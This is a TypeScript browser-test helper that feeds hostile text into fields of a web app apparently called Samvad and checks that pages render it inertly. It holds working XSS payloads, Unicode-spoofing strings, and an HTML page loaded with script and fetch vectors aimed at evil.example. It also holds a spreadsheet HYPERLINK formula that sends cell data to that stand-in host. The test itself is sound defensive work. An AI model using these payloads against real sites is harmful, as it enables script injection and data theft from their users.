// Hostile texts for every field that other people fill in, and checks that a page shows them as text.

import assert from 'node:assert/strict'
import { setWidth, widths } from '../browser/browser.ts'
import { until } from '../mail-story.ts'
import type { Visitor } from './console.ts'

/** An element with this attribute was created from a text. */
const MARK = 'data-hostile'
/** What an injected script calls; nothing of ours has this name. */
const RAN = 'hostileRan()'

/** Each begins with a name by which a page is searched for it, and fits a field of 200 characters. */
export const texts = {
  script: `T1<script ${MARK}>${RAN}</script><img ${MARK} src=https://evil.example/1 onerror=${RAN}>`,
  attribute: `T2"'><svg ${MARK} onload=${RAN}><a ${MARK} href='javascript:${RAN}'>x</a><b x="' onfocus=${RAN} autofocus`,
  ending: `T3</title></textarea></style><!--<iframe ${MARK} srcdoc='<script>parent.${RAN}</script>'></iframe>`,
  address: `T4javascript:${RAN}//data:text/html,<script>parent.${RAN}</script>`,
  braces: "T5{{constructor.constructor('hostileRan()')()}}${hostileRan()}<%= 7*7 %> $& $1 %s %n {0} \\u0022",
  prototype: 'T6 __proto__ constructor hasOwnProperty toString',
  direction: 'T7\u202egnp.exe\u2066\u2069 رحمة\u200f فاتورة \u202dabc',
  hidden: `T8\u200b\u2060\u00ad${'\u200d'.repeat(40)}\ufeffend`,
  combining: `T9${`Z${'\u0335\u0316\u0357'.repeat(20)}`.repeat(3)}`,
  word: `T10${'W'.repeat(196)}`,
  emoji: `T11${'👨‍👩‍👧‍👦'.repeat(16)}`,
  formula: '=HYPERLINK("https://evil.example/?"&A1,"T12")',
  control: 'T13\u0007\u001b[31mred\u001b[0m\u0085\u009b2J\u2028next',
} as const

export type HostileName = keyof typeof texts
export const hostileNames = Object.keys(texts) as HostileName[]
/** The subset for records that each take a page of their own. */
export const worst = ['script', 'attribute', 'direction', 'combining', 'word'] as const satisfies HostileName[]

const NOT_IN_LINE = /[\p{Cc}\p{Cs}\p{NChar}\u2028\u2029\u202a-\u202e\u2066-\u2069]/gu
const NOT_IN_NOTE = /(?![\t\n])[\p{Cc}\p{Cs}\p{NChar}]/gu

/** The part that a single-line field accepts; the service refuses the rest (spec 3.24). */
export const line = (text: string, max = 200): string => cut(text.replace(NOT_IN_LINE, ''), max)
export const note = (text: string, max = 500): string => cut(text.replace(NOT_IN_NOTE, ''), max)
const cut = (text: string, max: number): string => text.slice(0, max).toWellFormed().replace('\ufffd', '')

/** The tag by which a text is found in a page. */
export const tagOf = (name: HostileName): string =>
  name === 'formula' ? 'HYPERLINK(' : (/^T\d+/.exec(texts[name])?.[0] as string)

/** HTML with everything that runs, fetches, submits or redirects, as a mail or a template may contain it. */
export const PAGE_OF_HTML = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/style.css">
<link rel="prefetch" href="https://evil.example/next"><link rel="dns-prefetch" href="//evil.example">
<style>@import "https://evil.example/import.css"; body{background:url(https://evil.example/body)} @font-face{font-family:x;src:url(https://evil.example/font)}</style>
<script>top.${RAN}</script></head><body background="https://evil.example/bg" onload="top.${RAN}">
<h1 style="position:fixed;inset:0;background:url(https://evil.example/fixed)">Bill</h1>
<script src="https://evil.example/script.js"></script><svg onload="top.${RAN}"><script>top.${RAN}</script><a xlink:href="javascript:top.${RAN}"><text>y</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.${RAN}&gt;"></table></mtext></math>
<form action="https://evil.example/form"><input name="password" autofocus onfocus="top.${RAN}"><button formaction="javascript:top.${RAN}">Sign in</button></form>
<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x 2x" onerror="top.${RAN}"><video poster="https://evil.example/poster" src="https://evil.example/video"></video>
<iframe src="https://evil.example/frame" srcdoc="<script>top.${RAN}</script>"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<a href="javascript:top.${RAN}">one</a> <a href="data:text/html,<script>opener.${RAN}</script>" target="_top">two</a> <a href="https://evil.example/there" ping="https://evil.example/ping">three</a>
<details open ontoggle="top.${RAN}"><summary>x</summary></details><marquee onstart="top.${RAN}">m</marquee><p>${'W'.repeat(300)}</p></body></html>`

/** Call before the page loads: injected scripts, dialogs and policy violations are added to the visitor's faults. */
export async function watch({ context, page, faults }: Visitor): Promise<void> {
  page.on('dialog', (dialog) => {
    faults.push(`opened a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('framenavigated', (frame) => {
    if (/evil|^javascript:/.test(frame.url())) faults.push(`went to ${frame.url()}`)
  })
  await context.addInitScript(`
    globalThis.hostileRan = () => console.error('a text of somebody ran')
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
      console.error('the policy had to stop', violatedDirective, blockedURI, sample))`)
}

/** Loads a page that shows hostile texts, and checks that they appear as text and break nothing. */
export async function mustShowAsText(visitor: Visitor, path: string, ...tags: string[]): Promise<void> {
  await visitor.goWithin(path)
  await mustBeText(visitor, path, ...tags)
}

/** Checks the current page. */
export async function mustBeText({ page, faults }: Visitor, name: string, ...tags: string[]): Promise<void> {
  const missing = () => page.evaluate<string[]>(`(${MISSING})(${JSON.stringify(tags)})`)
  await until(missing, (found) => found.length === 0).catch((error) => assert.fail(`${name}: ${error.message}`))
  const found: string[] = []
  for (const width of widths) {
    await setWidth(page, width)
    found.push(...(await page.evaluate<string[]>(`(${WRONG})()`)).map((what) => `${width} px: ${what}`))
  }
  assert.deepEqual([...faults.splice(0), ...found], [], name)
}

// Code that runs in the page is text, because our types do not include the DOM.

const MISSING = `(tags) => {
  const waits = document.querySelector('.animate-waiting, [aria-busy=true]')
  const shown = [document.body.innerText, ...[...document.querySelectorAll('input, textarea')].map(({ value }) => value)].join('\\n')
  return [...(waits ? ['what is still loading'] : []), ...tags.filter((tag) => !shown.includes(tag))]
}`

const WRONG = `() => {
  const found = []
  for (const { outerHTML } of document.querySelectorAll('[${MARK}], base, meta[http-equiv=refresh], object, embed'))
    found.push('became an element: ' + outerHTML.slice(0, 120))
  for (const element of document.querySelectorAll('[href], [src], [action], [formaction]'))
    for (const name of ['href', 'src', 'action', 'formaction'])
      // An address that they wrote is a link, which tells nobody where it was.
      if (!(name === 'href' && element.relList?.contains('noreferrer') && /^https:/.test(element.href)) &&
          /^\\s*(javascript:|data:text|vbscript:|https?:\\/\\/evil)/i.test(element.getAttribute(name) ?? ''))
        found.push('leads to ' + element.getAttribute(name).slice(0, 80))
  for (const frame of document.querySelectorAll('iframe'))
    if (frame.sandbox.contains('allow-scripts') || (frame.srcdoc && !frame.hasAttribute('sandbox'))) found.push('a frame runs scripts')
  if (document.title !== 'Samvad' && !/^\\(\\d+\\) Samvad$/.test(document.title)) found.push('is called ' + document.title)
  if (({}).isHostile !== undefined) found.push('the prototype of all objects was changed')
  for (const box of [document.documentElement, ...document.querySelectorAll('.overflow-y-auto')])
    if (box.scrollWidth > box.clientWidth + 1) {
      const wide = [...box.querySelectorAll('*')].filter((one) => one.getBoundingClientRect().right > box.getBoundingClientRect().right + 1 && !one.closest('.overflow-x-auto'))
      found.push('scrolls sideways: ' + (wide.at(0)?.outerHTML ?? box.outerHTML).slice(0, 200))
    }
  return found
}`
